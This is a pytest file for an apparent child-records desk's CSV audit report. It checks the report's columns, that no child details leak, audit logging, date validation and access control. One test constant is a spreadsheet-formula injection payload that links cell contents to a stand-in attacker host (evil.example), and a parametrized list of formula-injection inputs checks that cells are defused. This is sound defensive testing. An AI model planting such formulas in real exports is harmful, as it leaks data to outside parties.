"""The audit report: streamed CSV of who asked, who answered and why, with nothing of any child."""

import csv
import io
import re
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from sqlalchemy import select

from desk.core.extensions import db
from desk.dev.simulator import Twilio
from desk.records.models import Child
from desk.review.reports import COLUMNS, columns, safe_cell
from tests.desk.conftest import ALEX_SECRET, Console
from tests.desk.review.conftest import Reviewer, child_details, child_details_in, take_and_finish
from tests.pages import submit
from tests.stored import audit_events

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def around_today() -> tuple[str, str]:
    today = datetime.now(ZoneInfo("Europe/London")).date()
    return (today - timedelta(days=1)).isoformat(), (today + timedelta(days=1)).isoformat()


def read_everything(console: Console) -> None:
    """Open each child the index can show, and read back all that may be read."""
    for family, born in (
        ("O'Neill", "2015-03-14"),
        ("Brennan", "2016-06-01"),
        ("Carter", "2014-09-09"),
    ):
        console.search(family_name=family, date_of_birth=born)
        record, shown = console.open_only_result()
        for key in set(_item_keys(shown.text)):
            console.read_back(record, key)
        if "Request brokered contact" in shown.text:
            submit(console.client, record, {"reason": "Meeting invite"}, f"{record}/brokered")
    console.search(contactpoint_number=_number_on_record(console))


def _item_keys(page: str) -> list[str]:
    """The items a record page offers to read back."""
    return re.findall(r'name="item_key" value="([^"]+)"', page)


def _number_on_record(console: Console) -> str:
    with console.app.app_context():
        return db.session.scalar(select(Child.contactpoint_id).where(Child.source_id == "lily"))


@pytest.fixture
def downloaded(
    app: Flask, index: None, twilio: Twilio, console: Console, alex: str, manager: Reviewer
) -> tuple[str, list[dict[str, str]]]:
    """A report over a call that read back everything it could about three children."""
    take_and_finish(console, twilio, alex, secret=ALEX_SECRET, purpose="other", detail=INJECTION)
    read_everything(console)
    console.wrap_up("information_given")
    response = manager.report(*around_today())
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=desk-audit-")
    text = response.get_data(as_text=True)
    return text, list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_the_report_says_who_asked_who_answered_why_and_what_came_of_it(
    downloaded: tuple[str, list[dict[str, str]]], alex: str
) -> None:
    text, rows = downloaded
    assert text.startswith("\ufeff") and text.splitlines()[0].lstrip("\ufeff") == ",".join(COLUMNS)
    [row] = rows
    assert (row["practitioner ID"], row["practitioner"], row["organisation"]) == (
        alex,
        "Alex Moss",
        "Bury NHS Trust",
    )
    assert (row["operator"], row["operator username"]) == ("Olive Operator", "olive")
    assert (row["purpose"], row["outcome"]) == ("Other", "Information given")
    assert (row["searches"], row["records opened"], row["brokered requests"]) == ("4", "3", "2")
    assert int(row["items read back"]) >= 6 and row["matches"] == "4"
    assert "Shielded record" in row["flags"] and "Purpose: other" in row["flags"]
    assert row["started"] and row["taken"] and row["wrapped up"]


def test_the_report_holds_nothing_about_any_child(
    app: Flask, downloaded: tuple[str, list[dict[str, str]]]
) -> None:
    text, _ = downloaded
    details = child_details(app)
    assert child_details_in(text, details) == []
    # The check sees a child when one is there: a name, a number, a postcode, a phone.
    planted = "Amelia Rose,O'Neill,OL16 1AA,+447700900111,01706 555030"
    assert len(child_details_in(text + planted, details)) >= 5


def test_the_purposes_own_words_are_left_out_unless_asked_for(
    app: Flask, downloaded: tuple[str, list[dict[str, str]]], manager: Reviewer
) -> None:
    text, [row] = downloaded
    assert "purpose detail" not in row and INJECTION not in text
    asked = manager.report(*around_today(), with_words=True).get_data(as_text=True)
    [with_words] = list(csv.DictReader(io.StringIO(asked.removeprefix("\ufeff"))))
    assert asked.splitlines()[0].lstrip("\ufeff") == ",".join(columns(True))
    # The operator's own words, and a formula in them defused.
    assert with_words["purpose detail"] == "'" + INJECTION
    downloads = audit_events(app, "review.report_downloaded")
    assert [e.data["with_purpose_words"] for e in downloads] == [False, True]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+447700900123", "'+447700900123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("|calc", "'|calc"),
        ("%0A", "'%0A"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
        ("\u200b=1+1", "'\u200b=1+1"),  # a zero-width space first
        ("\ufeff=1+1", "'\ufeff=1+1"),  # a byte-order mark first
        ("\u00a0\u2060@SUM(A1)", "'\u00a0\u2060@SUM(A1)"),
        ("Checking a school move", "Checking a school move"),
        ("O'Neill - mother", "O'Neill - mother"),
        (7, 7),
        (True, "yes"),
        (None, ""),
    ],
)
def test_safe_cell(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_each_download_is_audited_with_its_period(app: Flask, manager: Reviewer, mona: int) -> None:
    response = manager.report("2026-03-01", "2026-03-31")
    assert response.status_code == 200
    response.get_data()
    [downloaded] = audit_events(app, "review.report_downloaded")
    assert downloaded.supervisor_id == mona
    assert downloaded.data == {
        "from": "2026-03-01",
        "to": "2026-03-31",
        "calls": 0,
        "with_purpose_words": False,
    }


@pytest.mark.parametrize(
    ("period", "message"),
    [
        (("", "2026-03-31"), "Give the first day of the period."),
        (("2026-03-31", "2026-03-01"), "The end date is before the start date."),
        (("2025-01-01", "2026-03-31"), "A report covers at most 366 days."),
        (("9999-12-30", "9999-12-31"), "Give a date between 2000 and"),
        (("1066-10-14", "1066-10-14"), "Give a date between 2000 and"),
    ],
)
def test_a_bad_period_is_explained(
    app: Flask, manager: Reviewer, period: tuple[str, str], message: str
) -> None:
    response = manager.report(*period)
    assert response.status_code == 400 and message in response.text
    assert "govuk-error-summary" in response.text and "-error" in response.text
    assert audit_events(app, "review.report_downloaded") == []


def test_the_report_page_offers_this_month_so_far(manager: Reviewer) -> None:
    page = manager.client.get("/manager/").text
    today = datetime.now(ZoneInfo("Europe/London")).date()
    assert re.search(r'name="date_from-day"[^>]*value="1"', page)
    assert re.search(rf'name="date_to-day"[^>]*value="{today.day}"', page)
    assert re.search(rf'name="date_to-year"[^>]*value="{today.year}"', page)


def test_a_supervisor_can_no_longer_download_the_report(reviewer: Reviewer) -> None:
    response = reviewer.client.get(
        "/manager/report.csv", query_string={"date_from": "2026-03-01", "date_to": "2026-03-31"}
    )
    assert response.status_code == 403
    assert "Audit report" not in reviewer.calls().text
